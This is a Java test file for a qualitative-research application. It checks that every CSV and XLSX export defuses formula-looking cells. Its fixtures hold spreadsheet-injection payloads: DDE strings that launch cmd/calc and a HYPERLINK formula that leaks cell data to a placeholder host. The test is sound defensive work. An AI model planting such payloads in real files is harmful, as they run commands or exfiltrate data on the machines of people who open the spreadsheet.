package quire;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;

import quire.analysis.JointDisplayService;
import quire.coding.Code;
import quire.coding.CodeDraft;
import quire.coding.CodebookService;
import quire.coding.CodingService;
import quire.coding.RetrievalService;
import quire.corpus.AttributeKind;
import quire.corpus.CorpusService;
import quire.corpus.DocumentSummary;
import quire.corpus.ImportRequest;
import quire.corpus.Language;
import quire.corpus.ParticipantService;
import quire.fidelity.FidelityService;
import quire.fidelity.MitiCounts;
import quire.fidelity.MitiGlobals;
import quire.fidelity.MitiSession;
import quire.fidelity.RatingSource;
import quire.project.AuditLog;
import quire.project.Project;
import quire.project.ProjectService;

/**
 * Text a researcher imported or typed that starts like a spreadsheet formula ({@code = + - @}) comes
 * out of every CSV and XLSX export unable to run: in CSV with a leading apostrophe, in XLSX as a
 * text cell. The values reach the exports through a transcript (its name, a speaker's words), a
 * code, a coder, a participant and an attribute, a MITI session, counsellor and coder.
 */
@SpringBootTest
class FormulaExportTests implements SharedHome {

	/** What a spreadsheet would run: a cell starting with = + - @ (or tab, CR) that is not a plain number. */
	private static final Pattern RUNNABLE = Pattern.compile("^[=+\\-@\\t\\r](?![\\d.,]+(?:[eE][-+]?\\d+)?$).*",
			Pattern.DOTALL);

	@Autowired
	ProjectService projects;

	@Autowired
	CorpusService corpus;

	@Autowired
	CodebookService codebook;

	@Autowired
	CodingService codings;

	@Autowired
	RetrievalService retrieval;

	@Autowired
	ParticipantService participants;

	@Autowired
	FidelityService fidelity;

	@Autowired
	JointDisplayService joint;

	@Autowired
	AuditLog audit;

	@Test
	void everyExportNeutralisesFormulaLookingCells() throws IOException {
		Project p = projects.create("Formula exports", "");
		String text = """
				Moderator: =HYPERLINK("http://example.invalid/?leak="&A1,"click")
				MI Caseworker 2: +cmd|' /C calc'!A0 and then some words.
				Participant 4: @SUM(1+1)*cmd|' /C calc'!A0
				Participant 5: -2+3+cmd|' /C calc'!A0""";
		DocumentSummary d = corpus.importDocument(p.id(), new ImportRequest("=SUM(A1).txt",
				text.getBytes(StandardCharsets.UTF_8), "@group", Language.ENGLISH)).document();
		Code code = codebook.create(p.id(), null, CodeDraft.named("=Formula code", "#D62728"));
		String stored = corpus.transcript(d.id()).orElseThrow().text();
		for (String start : List.of("=HYPERLINK", "+cmd", "@SUM", "-2+3")) {
			int from = stored.indexOf(start);
			codings.code(d.id(), code.id(), from, stored.indexOf('\n', from) < 0 ? stored.length()
					: stored.indexOf('\n', from), "-coder+cmd");
		}
		var attribute = participants.defineAttribute(p.id(), "@role", AttributeKind.TEXT, List.of());
		var participant = participants.addParticipant(p.id(), "+47 cmd|' /C calc'!A0");
		participants.setValue(List.of(participant.id()), attribute, "=1+1");
		MitiSession session = fidelity.saveSession(p.id(), "=S1", null, "-C1+cmd", null, null, null, null);
		fidelity.saveRating(session.id(), "@coder", RatingSource.LAB, new MitiGlobals(3, 3, 4, 4),
				MitiCounts.of(5, 0, 1, 10, 8, 6, 2, 3, 1, 0));

		List<String> segments = csvCells(retrieval.exportCsv(code.id(), null));
		assertThat(segments).contains("'=SUM(A1)", "'=Formula code", "'-coder+cmd", "'@group")
			.anySatisfy(c -> assertThat(c).startsWith("'=HYPERLINK"))
			.anySatisfy(c -> assertThat(c).startsWith("'+cmd"));
		assertNothingRunnable("coded segments CSV", segments);

		List<String> quantitized = csvCells(joint.quantitize(p.id(), false));
		assertThat(quantitized).contains("'+47 cmd|' /C calc'!A0", "'@role", "'=1+1");
		assertNothingRunnable("quantitized CSV", quantitized);
		assertNoFormulaCells("quantitized XLSX", joint.quantitize(p.id(), true));

		List<String> lab = csvCells(fidelity.exportLab(p.id()));
		assertThat(lab).contains("'=S1", "'-C1+cmd", "'@coder");
		assertNothingRunnable("MITI lab CSV", lab);

		List<String> log = csvCells(audit.csv(p.id()).getBytes(StandardCharsets.UTF_8));
		assertThat(log).isNotEmpty();
		assertNothingRunnable("audit log CSV", log);
	}

	private static void assertNothingRunnable(String export, List<String> cells) {
		assertThat(cells).as(export).isNotEmpty().noneMatch(c -> RUNNABLE.matcher(c).matches());
	}

	private static List<String> csvCells(byte[] bytes) throws IOException {
		String text = new String(bytes, StandardCharsets.UTF_8);
		if (text.startsWith("\uFEFF")) {
			text = text.substring(1);
		}
		List<String> cells = new ArrayList<>();
		try (CSVParser parser = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180)) {
			for (CSVRecord r : parser) {
				r.forEach(cells::add);
			}
		}
		return cells;
	}

	/** Every cell is a text or number cell; the formula-looking values are there as text. */
	private static void assertNoFormulaCells(String export, byte[] xlsx) throws IOException {
		List<String> texts = new ArrayList<>();
		try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
			for (Row row : book.getSheetAt(0)) {
				for (Cell cell : row) {
					assertThat(cell.getCellType()).as("%s cell %s", export, cell.getAddress())
						.isNotEqualTo(CellType.FORMULA);
					if (cell.getCellType() == CellType.STRING) {
						texts.add(cell.getStringCellValue());
					}
				}
			}
		}
		assertThat(texts).as(export).anySatisfy(t -> assertThat(t).contains("=1+1"));
	}

}
